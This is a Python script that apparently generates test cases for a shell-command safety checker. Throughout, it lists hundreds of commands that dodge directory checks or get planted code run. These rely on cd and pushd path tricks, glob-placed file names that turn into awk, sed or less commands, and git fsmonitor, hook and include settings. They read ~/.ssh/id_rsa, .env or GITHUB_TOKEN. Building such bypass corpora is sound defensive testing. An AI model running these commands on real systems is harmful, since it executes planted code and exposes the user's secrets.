#!/usr/bin/env python3
# class 1: bypasses of design.md 410-412
rows = []
def add(cls, line, setup=None, env=None):
    s = ""
    if env: s += "ctx:" + ";".join("setenv=" + e for e in env) + " ;;; "
    if setup: s += f"setup:{setup} ;;; "
    rows.append((cls, s + line))

# --- cd's logical/physical model
READERS = ["grep -r CANARY .", "cat */*", "grep -rn oauth .", "head -n3 .*/*"]
seqs = [
 "cd -P vendor/keys && cd - >/dev/null && cd - >/dev/null && cd ..",
 "cd -P vendor/keys && cd @P@ && cd - >/dev/null && cd ..",
 "cd vendor/keys && cd -P ..",
 "cd vendor/keys && cd -P ../.config",
 "cd vendor/keys && cd -P .",
 "cd vendor/keys && cd -P . && cd ..",
 "cd -P vendor/keys/. && cd ..",
 "cd vendor/keys/../.config/../.ssh/.. ",
 "cd vendor/keys/../.config/..",
 "OLDPWD=@H@/.config; cd - >/dev/null",
 "OLDPWD=@H@/.config && cd - >/dev/null",
 "export OLDPWD=@H@/.config && cd - >/dev/null",
 "cd -P vendor/keys && cd ~-",
 "cd -P vendor/keys && cd /tmp && cd ~-/..",
 "cd -P vendor/keys && cd ~+/..",
 "cd -P vendor/keys && cd \"$PWD/..\"",
 "cd -P vendor/keys && cd \"$OLDPWD\" && cd \"$OLDPWD\" && cd ..",
 "pushd vendor/keys/../.config >/dev/null",
 "pushd -P vendor/keys/.. >/dev/null",
 "pushd vendor/keys >/dev/null && pushd ../.config >/dev/null",
 "pushd -P vendor/keys >/dev/null && pushd /tmp >/dev/null && popd >/dev/null && cd ..",
 "pushd -P vendor/keys >/dev/null && pushd @P@ >/dev/null && pushd +1 >/dev/null && cd ..",
 "pushd -P vendor/keys >/dev/null && pushd @P@ >/dev/null && pushd >/dev/null && cd ..",
 "pushd -P vendor/keys >/dev/null && cd @P@ && popd -n >/dev/null; cd ~1/..",
 "pushd -P vendor/keys >/dev/null && pushd @P@ >/dev/null && cd ~1/..",
 "pushd -P vendor/keys >/dev/null && pushd @P@ >/dev/null && cd \"$(dirs -l +1)\"/..",
 "pushd -n vendor/keys/../.config >/dev/null && pushd >/dev/null",
 "pushd -n -P vendor/keys >/dev/null && pushd >/dev/null && cd ..",
 "f() { cd -P vendor/keys; }; f && cd ..",
 "f() { cd vendor/keys/../.config; }; f",
 "for d in vendor/keys; do cd -P \"$d\"; done && cd ..",
 "for d in vendor/keys/../.config; do cd $d; done",
 "while cd -P vendor/keys; do break; done && cd ..",
 "until cd -P vendor/keys; do :; done && cd ..",
 "if cd -P vendor/keys; then cd ..; fi",
 "{ cd -P vendor/keys; } && cd ..",
 "case x in x) cd -P vendor/keys;; esac && cd ..",
 "builtin cd -P vendor/keys && cd ..",
 "command cd -P vendor/keys && cd ..",
 "cd -P -- vendor/keys && cd ..",
 "cd -e -P vendor/keys && cd ..",
 "cd -Pe vendor/keys && cd ..",
 "cd -L -P vendor/keys && cd ..",
 "cd -P -L -P vendor/keys && cd ..",
 "cd -P@ vendor/keys && cd ..",
 "cd -- -P 2>/dev/null; cd -P vendor/keys && cd ..",
 "set -P && cd vendor/keys && cd ..",
 "set -o physical && cd vendor/keys && cd ..",
 "shopt -s cdable_vars && x=@H@/.config && cd x",
 "CDPATH=@H@ cd .config",
 "CDPATH=@H@; cd .config",
 "export CDPATH=@H@ && cd .config",
 "CDPATH=vendor/keys/.. && cd .config",
 "CDPATH=vendor/keys && cd ../.config",
 "cd vendor/keys/../.config/gh/..",
 "cd ./vendor//keys/../.config",
 "cd vendor/keys/../.config/ ",
 "cd 'vendor/keys/../.config'",
 "cd vendor/keys/../.conf\"ig\"",
 "cd vendor/keys/../.conf*",
 "cd vendor/keys/../.c?nfig",
 "cd vendor/k*/../.config",
 "cd vendor/keys/../.config && cd .",
 "cd \"$(echo vendor/keys/../.config)\"",
 "d=vendor/keys/../.config; cd $d",
 "cd ${x:-vendor/keys/../.config}",
 "( cd -P vendor/keys && cd .. && grep -r CANARY . )",
 "cd vendor && cd keys && cd ../.config",
 "cd vendor/keys && cd ./../.config",
 "cd vendor/keys && cd ../.config/./",
 "cd vendor/keys && cd .././.config",
 "cd vendor/keys && cd ..//.config",
]
for s in seqs:
    for r in READERS:
        add("cd-model", f"{s} && {r}")
# HOME-based (cdable vars from environment)
for r in READERS:
    add("cd-cdable-env", f"cd HOME && {r}", env=["BASHOPTS=cdable_vars"])
    add("cd-cdable-env", f"cd XDG_CONFIG_HOME && {r}", env=["BASHOPTS=cdable_vars"])
    add("cd-cdable-env", f"cd OLDPWD && {r}", env=["BASHOPTS=cdable_vars", "OLDPWD=@H@"])
    add("cd-physical-env", f"cd vendor/keys && cd .. && {r}", env=["SHELLOPTS=physical"])
    add("cd-physical-env", f"cd vendor/keys/.. && {r}", env=["SHELLOPTS=physical"])
    add("cd-posix-env", f"cd vendor/keys/../.config && {r}", env=["POSIXLY_CORRECT=1"])
    add("cd-posix-env", f"cd vendor/keys && cd .. && {r}", env=["POSIXLY_CORRECT=1"])
# a link into the project to a nested repository reached by bash's fallback
NREP = "mkdir -p d/e d/r && git -C d/r init -q && git -C d/r config core.fsmonitor @P@/pwn && echo x > d/r/f && git -C d/r add f && git -C d/r -c user.email=a@b -c user.name=a commit -qm a && touch d/r/f && ln -s d/e l"
for l in ["cd l/../r && git status", "cd -P l/.. && cd r && git status", "cd l && cd ../r && git status", "cd -P l && cd ../r && git log -1", "cd d/r && git status", "git -C d/r status", "git -C l/../r status", "(cd l/../r && git diff)", "pushd l/../r >/dev/null && git status"]:
    add("cd-nested-repo", l, NREP)

# --- glob positions (other than uniq's output)
W = "mkdir -p w && echo atk > w/a.txt && ln -s @M@/keep.txt w/zz"
for l in ["set -- w/*; uniq \"$@\"", "set -- w/* && uniq \"$1\" \"$2\"", "a=(w/*); uniq \"${a[@]}\"", "a=(w/*) && uniq ${a[*]}", "uniq $(echo w/*)", "uniq `echo w/*`",
          "echo w/* | xargs uniq", "printf '%s\\n' w/* | xargs -n2 uniq", "ls -d w/* | xargs uniq", "ls w | sed 's|^|w/|' | xargs uniq", "find w -mindepth 1 | sort | xargs uniq",
          "for f in w/*; do :; done; uniq w/a.txt \"$f\"", "for f in w/*; do :; done && uniq w/a.txt $f", "uniq w/a.txt w/z*", "uniq w/a* w/z*", "uniq w/[a]* w/[z]*", "uniq w/a.txt w/z?",
          "uniq -- w/a.txt w/z*", "cd w && uniq a.txt z*", "uniq w/a.txt $(ls -d w/z*)", "uniq w/a.txt \"$(ls -d w/z*)\"", "x=(w/z*); uniq w/a.txt \"$x\"", "uniq w/a.txt w/{zz,}",
          "uniq w/{a.txt,zz}", "mapfile -t a < <(ls -d w/*); uniq \"${a[@]}\"", "read -r a b <<< \"$(echo w/*)\"; uniq $a $b", "uniq -i $(printf '%s ' w/*)", "shopt -s nullglob; uniq w/a.txt w/z*",
          "sort -o w/* ", "sort -m -o w/* ", "sort w/a.txt -o w/z*", "sort -ow/zz w/a.txt", "tree -o w/zz src", "tree src -o w/z*", "git log -1 --output=w/zz", "git diff --output=w/zz", "git log -1 --output=w/z*",
          "diff --to-file=w/zz w/a.txt", "diff w/* ", "cmp w/* ", "comm w/* ", "nl w/* ", "tac w/* ", "cut -c1 w/* ", "tr a b < w/a.txt", "grep -f w/* ", "awk 1 w/* ", "sed -n p w/* ", "jq -R . w/* "]:
    add("glob-pos-write", l, W)
# program or script at a glob's first position
PROG = "mkdir -p g && cd g && : > sh && cp @P@/x.sh x.sh"
for l in ["cd g && env *", "cd g && timeout 5 *", "cd g && nice *", "cd g && nohup * 2>/dev/null; cat nohup.out", "cd g && setsid -w *", "cd g && stdbuf -o0 *", "cd g && command *", "cd g && builtin *",
          "cd g && xargs * < /dev/null", "cd g && *", "cd g && time *", "cd g && exec *", "cd g && \"$(ls | head -1)\" x.sh", "cd g && set -- *; \"$@\"", "cd g && a=(*); \"${a[@]}\"", "cd g && env -- *", "cd g && env -i *", "cd g && nice -n 5 *", "cd g && timeout -s KILL 5 *",
          "cd g && echo * | xargs", "cd g && ls | xargs", "cd g && printf '%s\\n' * | xargs -n2", "cd g && for f in *; do $f x.sh; break; done", "env g/*", "timeout 5 g/*", "command g/*"]:
    add("glob-pos-prog", l, PROG.replace(": > sh", "cp /bin/sh sh"))
    add("glob-pos-prog", l, PROG)
# filter/program text from a glob's first name (jq, awk, sed, grep, find, git)
add("glob-pos-filter", "cd g && jq -n *", "mkdir g && cd g && : > env && : > z")
add("glob-pos-filter", "cd g && jq -n * ", "mkdir g && cd g && : > '$ENV' && : > z")
add("glob-pos-filter", "cd g && jq * ../data.json", "mkdir g && cd g && : > env")
add("glob-pos-filter", "cd g && jq -r * ../data.json", "mkdir g && cd g && : > '$__loc__' && : > 'env'")
add("glob-pos-filter", "cd g && jq -n \"$(ls)\"", "mkdir g && cd g && : > env")
add("glob-pos-filter", "cd g && awk * ../README.md", "mkdir g && cd g && : > 'BEGIN{system(\"sh ../x.sh\")}'")
add("glob-pos-filter", "cd g && awk * /dev/null", "mkdir g && cd g && : > 'BEGIN{print ENVIRON[\"GITHUB_TOKEN\"]}'")
add("glob-pos-filter", "cd g && awk *", "mkdir g && cd g && : > 'BEGIN{while((getline l < \"..\" \"/.env\")>0)print l}'")
add("glob-pos-filter", "cd g && sed -n * ../README.md", "mkdir g && cd g && : > '1e sh ../x.sh'")
add("glob-pos-filter", "cd g && sed * ../README.md", "mkdir g && cd g && : > 'r ..' && : > z")
add("glob-pos-filter", "cd g && sed * ../README.md", "mkdir g && cd g && : > '1e sh ../x.sh'")
add("glob-pos-filter", "cd g && sed * ../README.md", "mkdir g && cd g && : > 'w ../../outside/sedw'")
add("glob-pos-filter", "cd g && sed -n * ../README.md", "mkdir g && cd g && : > '1r ../.env' ")
add("glob-pos-filter", "cd g && grep -r *", "mkdir g && cd g && : > CANARY && : > zz")
add("glob-pos-filter", "cd g && git *", "mkdir g && cd g && : > help && : > -a")
add("glob-pos-filter", "cd g && git *", "mkdir g && cd g && : > grep && : > CANARY && : > --no-index && : > -r")
add("glob-pos-filter", "cd g && git * ", "mkdir g && cd g && : > -c && : > core.pager=sh x.sh && : > -p && : > log")
add("glob-pos-filter", "cd g && man *", "mkdir g && cd g && : > -l && : > ../.env")
add("glob-pos-filter", "cd g && less *", "mkdir g && cd g && : > +!sh ../x.sh")
add("glob-pos-filter", "cd g && date *", "mkdir g && cd g && : > '+%s' && : > '-f../.env'")
add("glob-pos-filter", "cd g && printenv *", "mkdir g && cd g && : > GITHUB_TOKEN")
add("glob-pos-filter", "cd g && printenv *", "mkdir g && cd g && : > HOME && : > GITHUB_TOKEN")
add("glob-pos-filter", "cd g && go env *", "mkdir g && cd g && : > GOPATH && : > GOPROXY")
add("glob-pos-filter", "cd g && hostname *", "mkdir g && cd g && : > -F && : > ../.env")
add("glob-pos-filter", "cd g && test *", "mkdir g && cd g && : > a")
add("glob-pos-filter", "cd g && type *", "mkdir g && cd g && : > a")

# --- git directory checks (410)
MOD = "touch README.md"
FSM = "git config core.fsmonitor @P@/pwn"
gl = ["git status", "git diff --stat", "git describe --always --dirty", "git log -1 --oneline", "git worktree list -v", "git blame README.md", "git status --short"]
setups = {
 "commondir-in": "cp -r .git cgit && git --git-dir=cgit config core.fsmonitor @P@/pwn && echo ../cgit > .git/commondir && " + MOD,
 "commondir-out": "cp -r .git @M@/cg && git --git-dir=@M@/cg config core.fsmonitor @P@/pwn && echo @M@/cg > .git/commondir && " + MOD,
 "commondir-outback": "cp -r .git cgit && git --git-dir=cgit config core.fsmonitor @P@/pwn && ln -s @P@/cgit @M@/cg && echo @M@/cg > .git/commondir && " + MOD,
 "gitfile-outback": "mv .git sg && git --git-dir=sg config core.fsmonitor @P@/pwn && ln -s @P@/sg @M@/back && echo 'gitdir: @M@/back' > .git && " + MOD,
 "gitfile-nospace": "mv .git sg && git --git-dir=sg config core.fsmonitor @P@/pwn && printf 'gitdir:sg\\n' > .git && " + MOD,
 "gitfile-crlf": "mv .git sg && git --git-dir=sg config core.fsmonitor @P@/pwn && printf 'gitdir: sg\\r\\n' > .git && " + MOD,
 "gitfile-dotdot": "mv .git sg && git --git-dir=sg config core.fsmonitor @P@/pwn && printf 'gitdir: ../proj/sg\\n' > .git && " + MOD,
 "gitfile-linkdotdot": "mv .git sub && mkdir -p q && git --git-dir=sub config core.fsmonitor @P@/pwn && ln -s q/r lk && mkdir -p q/r && printf 'gitdir: lk/../../sub\\n' > .git && " + MOD,
 "gitfile-trail": "mv .git sg && git --git-dir=sg config core.fsmonitor @P@/pwn && printf 'gitdir: sg/\\n' > .git && " + MOD,
 "gitfile-abs-dot": "mv .git sg && git --git-dir=sg config core.fsmonitor @P@/pwn && printf 'gitdir: @P@/./sg\\n' > .git && " + MOD,
 "gitlink-twice": "mv .git sg && git --git-dir=sg config core.fsmonitor @P@/pwn && ln -s @P@/sg @M@/l1 && ln -s @M@/l1 .git && " + MOD,
 "gitlink-rel-out": "mv .git sg && git --git-dir=sg config core.fsmonitor @P@/pwn && ln -s ../proj/sg .git && " + MOD,
 "gitfile-to-wt": "git worktree add -q @M@/wt 2>/dev/null; mv .git sg && git --git-dir=sg config core.fsmonitor @P@/pwn && printf 'gitdir: sg\\n' > .git && " + MOD,
 "hooks-link-outback": "mkdir githooks && cp pwn githooks/post-index-change && ln -s @P@/githooks @M@/hk && rm -rf .git/hooks && ln -s @M@/hk .git/hooks && " + MOD,
 "hook-file-outback": "mkdir githooks && cp pwn githooks/post-index-change && ln -s @P@/githooks/post-index-change @M@/h && ln -s @M@/h .git/hooks/post-index-change && " + MOD,
 "hook-dir-outback": "mkdir githooks && cp pwn githooks/post-index-change && ln -s @P@/githooks @M@/d && ln -s @M@/d/post-index-change .git/hooks/post-index-change && " + MOD,
 "hook-hardlink": "mkdir githooks && cp pwn githooks/post-index-change && ln githooks/post-index-change .git/hooks/post-index-change && " + MOD,
 "hookspath-outback": "mkdir githooks && cp pwn githooks/post-index-change && ln -s @P@/githooks @M@/hk && git config core.hooksPath @M@/hk && " + MOD,
 "hookspath-rel": "mkdir githooks && cp pwn githooks/post-index-change && git config core.hooksPath githooks && " + MOD,
 "hookspath-tilde": "mkdir githooks && cp pwn githooks/post-index-change && ln -s @P@/githooks @H@/hk && git config core.hooksPath '~/hk' && " + MOD,
 "include-rel": "printf '[core]\\n\\tfsmonitor = @P@/pwn\\n' > .gitconfig && git config include.path ../.gitconfig && " + MOD,
 "include-out-back": "printf '[core]\\n\\tfsmonitor = @P@/pwn\\n' > .gitconfig && ln -s @P@/.gitconfig @M@/gc && git config include.path @M@/gc && " + MOD,
 "includeif": "printf '[core]\\n\\tfsmonitor = @P@/pwn\\n' > .gitconfig && git config includeIf.gitdir:@P@/.git.path @P@/.gitconfig && " + MOD,
 "includeif-branch": "printf '[core]\\n\\tfsmonitor = @P@/pwn\\n' > .gitconfig && git config 'includeIf.onbranch:**.path' ../.gitconfig && " + MOD,
 "include-home-link": "printf '[core]\\n\\tfsmonitor = @P@/pwn\\n' > .gitconfig && ln -s @P@/.gitconfig @H@/.gitconfig-proj && printf '[include]\\n\\tpath = ~/.gitconfig-proj\\n' >> @H@/.gitconfig && " + MOD,
 "home-gitconfig-link": "printf '[core]\\n\\tfsmonitor = @P@/pwn\\n' > .gitconfig && rm @H@/.gitconfig && ln -s @P@/.gitconfig @H@/.gitconfig && " + MOD,
 "xdg-git-link": "mkdir -p @H@/.config/git && printf '[core]\\n\\tfsmonitor = @P@/pwn\\n' > .gitconfig && ln -s @P@/.gitconfig @H@/.config/git/config && " + MOD,
 "worktree-link": "mkdir -p .git/worktrees && mkdir -p @M@/w && ln -s @H@/.ssh/id_rsa @M@/w/locked && echo @M@/wtree/.git > @M@/w/gitdir && echo ../.. > @M@/w/commondir && echo ref: refs/heads/master > @M@/w/HEAD && ln -s @M@/w .git/worktrees/W",
 "worktree-dirlink": "git worktree add -q --lock --reason x @M@/wt2 2>/dev/null; for d in .git/worktrees/*; do rm -f $d/locked; ln -s @H@/.ssh/id_rsa $d/locked; done",
 "worktree-out": "git worktree add -q @M@/wt3 && W=$(ls .git/worktrees) && mv .git/worktrees/$W @M@/wd && ln -s @M@/wd .git/worktrees/$W && ln -sf @H@/.ssh/id_rsa @M@/wd/locked",
 "modules-deep": "mkdir -p .git/modules/a/b/c && cp -r .git/refs .git/HEAD .git/objects .git/modules/a/b/c/ 2>/dev/null; ln -s @H@/.ssh/id_rsa .git/modules/a/b/c/packed-refs",
 "packed-refs-hard": "ln @H@/.ssh/id_rsa .git/packed-refs 2>/dev/null || cp @H@/.ssh/id_rsa .git/packed-refs",
 "refs-dir-link": "ln -s @H@/.ssh .git/refs/tags/x",
 "logs-head-link": "rm -f .git/logs/HEAD; ln -s @H@/.ssh/id_rsa .git/logs/HEAD",
 "fetchhead-link": "ln -s @H@/.ssh/id_rsa .git/FETCH_HEAD",
 "info-dir-link": "rm -rf .git/info && ln -s @H@/.ssh .git/info",
 "obj-info-deep": "mkdir -p .git/objects/info && ln -s @H@/.aws .git/objects/info/x",
 "objects-pack-link": "ln -s @H@/.ssh/id_rsa .git/objects/pack/pack-x.idx",
 "objects-link": "ln -s @H@/.ssh .git/objects/ab",
 "refs-link": "ln -s @H@/.ssh/id_rsa .git/refs/heads/evil",
 "index-hard": "ln -f @H@/.ssh/id_rsa .git/index 2>/dev/null; true",
 "blame-tilde": "ln -s @H@/.ssh/id_rsa @H@/revs && git config blame.ignoreRevsFile '~/revs'",
 "blame-vendor": "git config blame.ignoreRevsFile vendor/notes.txt",
 "blame-dirlink": "git config blame.ignoreRevsFile vendor/keys/id_rsa",
 "blame-abs-link": "git config blame.ignoreRevsFile @P@/vendor/settings.ini",
 "blame-cont": "printf '[blame]\\n\\tignoreRevsFile = vendor/note\\\\\\ns.txt\\n' >> .git/config",
 "blame-case": "printf '[BLAME]\\n\\tIGNOREREVSFILE = vendor/notes.txt\\n' >> .git/config",
 "blame-sub": "printf '[blame \"x\"]\\n\\tignoreRevsFile = vendor/notes.txt\\n' >> .git/config",
 "blame-quote": "printf '[blame]\\n\\tignoreRevsFile = \"vendor/\"notes.txt ; c\\n' >> .git/config",
 "blame-multi": "printf '[blame]\\n\\tignoreRevsFile = README.md\\n\\tignoreRevsFile = vendor/notes.txt\\n' >> .git/config",
 "blame-includes17": "for i in $(seq 1 17); do printf '[include]\\n\\tpath = c%d\\n' $((i+1)) > .git/c$i; done; printf '[blame]\\n\\tignoreRevsFile = vendor/notes.txt\\n' > .git/c18; git config include.path c1",
 "blame-includeif": "printf '[blame]\\n\\tignoreRevsFile = vendor/notes.txt\\n' > .git/c1; git config includeIf.gitdir:@P@/.path c1",
 "blame-include-home": "printf '[blame]\\n\\tignoreRevsFile = vendor/notes.txt\\n' > @H@/c1; printf '[include]\\n\\tpath = c1\\n' >> @H@/.gitconfig",
 "blame-xdg": "mkdir -p @H@/.config/git; printf '[blame]\\n\\tignoreRevsFile = vendor/notes.txt\\n' > @H@/.config/git/config",
 "blame-bom": "printf '\\xef\\xbb\\xbf[blame]\\n\\tignoreRevsFile = vendor/notes.txt\\n' > .git/c1; git config include.path c1",
 "blame-nospace": "printf '[blame]ignoreRevsFile=vendor/notes.txt\\n' >> .git/config",
 "blame-empty-reset": "printf '[blame]\\n\\tignoreRevsFile = vendor/notes.txt\\n\\tignoreRevsFile\\n' >> .git/config",
 "mailmap-link": "ln -s @H@/.ssh/id_rsa .mailmap && git config log.mailmap true",
 "mailmap-blob": "git config mailmap.blob HEAD:README.md",
 "attributes-link": "ln -s @H@/.ssh/id_rsa .git/info/attributes",
 "sparse-link": "git config core.sparseCheckout true && ln -s @H@/.ssh/id_rsa .git/info/sparse-checkout",
 "alternates-rel": "mkdir -p .git/objects/info && echo ../../vendor/keys > .git/objects/info/alternates",
 "alternates-secret": "mkdir -p .git/objects/info && echo @H@/.ssh/id_rsa > .git/objects/info/alternates",
 "grafts-rel": "mkdir -p .git/info && cp @H@/.ssh/id_rsa .git/info/grafts 2>/dev/null",
 "submodule-gitfile-wt": "mkdir s && cd s && git init -q && echo y > f && git add f && git -c user.email=a@b -c user.name=a commit -qm s && cd .. && git -c protocol.file.allow=always submodule add -q ./s s2 2>/dev/null; git add s 2>/dev/null; printf '[submodule \"s\"]\\n\\tpath = s\\n\\turl = ./s\\n' > .gitmodules; git add .gitmodules; git -c user.email=a@b -c user.name=a commit -qm sub; mv s/.git sgit && echo 'gitdir: ../sgit' > s/.git && git --git-dir=sgit config core.fsmonitor @P@/pwn && touch s/f",
 "submodule-modules-cfg": "mkdir s && cd s && git init -q && echo y > f && git add f && git -c user.email=a@b -c user.name=a commit -qm s && cd .. && git add s 2>/dev/null; printf '[submodule \"s\"]\\n\\tpath = s\\n\\turl = ./s\\n' > .gitmodules; git add .gitmodules; git -c user.email=a@b -c user.name=a commit -qm sub; git -C s config core.fsmonitor @P@/pwn && touch s/f",
 "submodule-hooks-wt": "mkdir s && cd s && git init -q && echo y > f && git add f && git -c user.email=a@b -c user.name=a commit -qm s && cd .. && git add s 2>/dev/null; git -c user.email=a@b -c user.name=a commit -qm sub; mkdir githooks; cp pwn githooks/post-index-change; rm -rf s/.git/hooks; ln -s @P@/githooks s/.git/hooks; touch s/f",
}
for n, s in setups.items():
    for l in gl:
        add("gitdir-" + n, l, s)
    if n.startswith("submodule"):
        for l in ["git status --ignore-submodules=none", "git diff --submodule=diff", "git ls-files --recurse-submodules", "git grep --recurse-submodules y", "git describe --dirty --always"]:
            add("gitdir-" + n, l, s)
with open("cands_c1.tsv", "w") as f:
    for c, l in rows:
        f.write(f"{c}\t{l}\n")
print(len(rows))
